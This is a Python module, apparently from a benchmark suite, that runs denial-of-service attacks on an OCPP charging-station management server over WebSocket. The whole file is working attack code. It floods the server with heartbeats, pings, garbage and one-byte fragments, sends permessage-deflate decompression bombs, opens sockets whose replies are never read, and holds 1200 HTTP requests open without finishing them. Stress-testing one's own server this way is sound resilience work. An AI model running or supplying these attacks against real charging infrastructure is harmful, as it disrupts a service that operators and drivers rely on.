"""What an attacker does to a CSMS, in a process of its own: `python -m bench.attacks URL KIND`.

Prints "ready" when it has begun, and goes on until it is ended. KINDS says what there is; all but one speak as stations
that were let in.
"""

import argparse
import asyncio
import zlib
from collections.abc import Awaitable, Callable
from contextlib import suppress
from urllib.parse import urlsplit

Socket = tuple[asyncio.StreamReader, asyncio.StreamWriter]
HEARTBEAT = b'[2,"h","Heartbeat",{}]'


def masked(payload: bytes, first: int = 0x81) -> bytes:
    """Return a frame as a client sends it."""
    size = len(payload)
    if size > 0xFFFF:
        head = bytes((first, 0xFF)) + size.to_bytes(8)
    else:
        head = bytes((first, 0x80 | size)) if size < 126 else bytes((first, 0xFE)) + size.to_bytes(2)
    return head + bytes(4) + payload


async def dialled(url: str, name: str, extra: str = "") -> Socket:
    """Connect and be let in as a station."""
    host, port = urlsplit(url).hostname, urlsplit(url).port
    reader, writer = await asyncio.open_connection(host, port)
    writer.write(
        f"GET /ocpp/{name} HTTP/1.1\r\nHost: x\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
        "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n"
        f"Sec-WebSocket-Protocol: ocpp1.6\r\n{extra}\r\n".encode()
    )
    await reader.readuntil(b"\r\n\r\n")
    return reader, writer


async def _swallow(reader: asyncio.StreamReader) -> None:
    with suppress(ConnectionError):
        while await reader.read(65_536):
            pass


async def _flood(url: str, name: str, data: bytes, *, reads: bool = True) -> None:
    """Send the same bytes as fast as they are taken; come back when thrown out."""
    while True:
        with suppress(ConnectionError, asyncio.IncompleteReadError):
            reader, writer = await dialled(url, name, "Sec-WebSocket-Extensions: permessage-deflate\r\n")
            swallowing = asyncio.create_task(_swallow(reader)) if reads else None
            while not writer.is_closing():
                writer.write(data)
                await writer.drain()
                await asyncio.sleep(0)  # draining does not wait while there is room
            if swallowing is not None:
                await swallowing
        await asyncio.sleep(0.05)


def _flooding(data: bytes, *, sockets: int = 1, reads: bool = True) -> Callable[[str], Awaitable[None]]:
    async def run(url: str) -> None:
        floods = (_flood(url, f"ATTACKER{number}", data, reads=reads) for number in range(sockets))
        await asyncio.gather(*floods)

    return run


async def _slowly(url: str) -> None:
    """Keep 1200 requests open that never end."""
    host, port = urlsplit(url).hostname, urlsplit(url).port

    async def one() -> None:
        while True:
            with suppress(ConnectionError):
                reader, writer = await asyncio.open_connection(host, port)
                writer.write(b"GET /ocpp/X HTTP/1.1\r\nHost: ")
                await reader.read()
                writer.close()
            await asyncio.sleep(1)

    await asyncio.gather(*(one() for _ in range(1200)))


def _bomb() -> bytes:
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    return compressor.compress(bytes(1 << 26)) + compressor.flush(zlib.Z_SYNC_FLUSH)


KINDS: dict[str, Callable[[str], Awaitable[None]]] = {
    "heartbeats": _flooding(masked(HEARTBEAT) * 200),
    "pings": _flooding(masked(b"p" * 100, 0x89) * 200),
    "garbage of 100 kB": _flooding(masked(b"[" * 100_000)),
    "one-byte fragments": _flooding(masked(b"[", 0x01) + masked(b" ", 0x00) * 500),
    "deflate bombs": _flooding(masked(_bomb(), 0xC1)),
    "answers never read": _flooding(masked(HEARTBEAT) * 200, sockets=20, reads=False),
    "requests that never end": _slowly,
}


async def main() -> None:
    parser = argparse.ArgumentParser(description="Attack a CSMS.")
    parser.add_argument("url")
    parser.add_argument("kind", choices=KINDS)
    chosen = parser.parse_args()
    attack = asyncio.ensure_future(KINDS[chosen.kind](chosen.url))
    await asyncio.sleep(1)
    print("ready", flush=True)
    await attack


if __name__ == "__main__":
    asyncio.run(main())
